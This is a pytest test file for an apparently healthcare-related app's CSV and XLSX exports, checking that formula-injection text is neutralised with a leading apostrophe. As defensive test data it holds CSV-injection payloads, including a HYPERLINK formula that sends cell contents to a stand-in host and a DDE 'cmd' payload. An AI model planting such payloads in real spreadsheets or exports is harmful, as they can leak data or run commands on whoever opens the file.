"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula; numbers stay numbers."""

import io

import openpyxl
import pandas as pd
import pytest

from core.access.exports import export_csv, export_xlsx, neutralise_cell, neutralise_formulas
from core.metrics.scorecard import format_scorecard
from core.views import review, review_log
from core.views.format import csv_export
from core.views.review_pack import review_pack

PAYLOADS = ['=HYPERLINK("http://host/?"&A1,"x")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_gets_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Smith", "", "-2", "-1.5 %", "+3", "-$1,234", "a=b", -2, -1.5, None])
def test_plain_values_and_numbers_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_numeric_columns_stay_numbers():
    frame = pd.DataFrame({"name": PAYLOADS, "change": [-2.5, -1, 0, 1, 2, 3], "count": [-1, 2, 3, 4, 5, 6]})
    out = neutralise_formulas(frame)
    assert out["change"].tolist() == frame["change"].tolist() and out["change"].dtype == frame["change"].dtype
    assert out["count"].dtype == frame["count"].dtype
    read = pd.read_csv(io.StringIO(export_csv(frame)))
    assert read["change"].tolist() == [-2.5, -1, 0, 1, 2, 3]
    assert all(v.startswith("'") for v in read["name"])


def test_xlsx_cells_are_text_not_formulas():
    frame = pd.DataFrame({"name": PAYLOADS, "cost_usd": [-10.0, 1, 2, 3, 4, 5]})
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx({"t": frame})))["t"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.column == 2] == [-10, 1, 2, 3, 4, 5]


def test_every_export_goes_through_the_neutraliser(sample_engine):
    from core.store.queries import months_available

    month = months_available(sample_engine)[-1]
    data = review.review_data(sample_engine, "TM04", "complex", month, ("TM04",), True)
    log = pd.DataFrame([{"entry_id": 1, "month": month, "kind": "note", "text": PAYLOADS[0], "owner": "@owner",
                         "due_date": None, "status": "", "created_by": "x", "created_at": None}]).reindex(columns=review_log.LOG_COLUMNS)  # fmt: skip
    pack = review_pack(data, log, {"complex": "Complex"}, "=Team", charts=False)
    assert "'" + PAYLOADS[0].replace('"', '""') in pack["csv"]["review_log"]
    sheet = openpyxl.load_workbook(io.BytesIO(pack["xlsx"]))["Review log"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert csv_export(pd.DataFrame({"team": ["=cmd"], "value": [None]})).splitlines()[1] == "'=cmd,suppressed"
    assert format_scorecard(pd.DataFrame({"name": ["+1+1"], "value": [-0.5]}), "csv").splitlines()[1] == "'+1+1,-0.5"


def test_a_line_break_in_a_cell_cannot_start_a_row():
    text = export_csv(pd.DataFrame({"name": ["x\r=1+1", "y\n@z"], "n": [1, 2]}))
    assert pd.read_csv(io.StringIO(text))["n"].tolist() == [1, 2]


def test_the_worklist_csv_is_the_grid_under_its_headings(sample_engine):
    """The worklist's CSV holds the grid's columns in its order under its labels, nothing the grid
    leaves out (each flag on its own, the costs' parts, the assignment's reason, the care gaps'
    ids), its rows in order, figures rounded as shown, months as YYYY-MM."""
    import re

    from core.store.queries import months_available
    from core.views.care_gaps import gap_summary
    from core.views.worklist_page import GRID_COLUMNS, worklist_csv, worklist_reads

    month = months_available(sample_engine)[-1]
    worklist, gaps, _ = worklist_reads(sample_engine, month, ("TM04",), "complex")
    shown = worklist.join(gap_summary(gaps), on="patient_id").assign(last_outreach=None)  # the page's frame, as it joins it
    shown.loc[shown.index[0], "name"] = PAYLOADS[0]
    text = worklist_csv(shown)
    read = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(read.columns) == list(GRID_COLUMNS.values())
    assert read["Patient id"].tolist() == shown["patient_id"].tolist() and len(read) > 10
    hidden = set(shown.columns) - set(GRID_COLUMNS)
    assert {"reason", "gap_ids", "cost_internal_12m_usd", "team_id", "priority"} <= hidden
    assert all(reason not in text for reason in set(shown["reason"]) if reason)  # the assignment's reason is left out
    assert read["Name"].iloc[0] == "'" + PAYLOADS[0]
    assert all(re.fullmatch(r"\d+\.\d{1,2}|\d+", v) for v in read["Risk score"])
    assert all(re.fullmatch(r"-?\d+(\.\d{1,2})?", v) for v in read["Cost 12 mo, $"] if v)
    since = pd.to_datetime(shown["subgroup_since"]).dt.strftime("%Y-%m").fillna("")
    assert read["In subgroup since"].tolist() == since.tolist() and any(since)
    assert all(re.fullmatch(r"\d{4}-\d{2}-\d{2}|", v) for v in read["HbA1c date"])
    assert "None" not in read.to_numpy() and "nan" not in read.to_numpy() and "NaT" not in read.to_numpy()
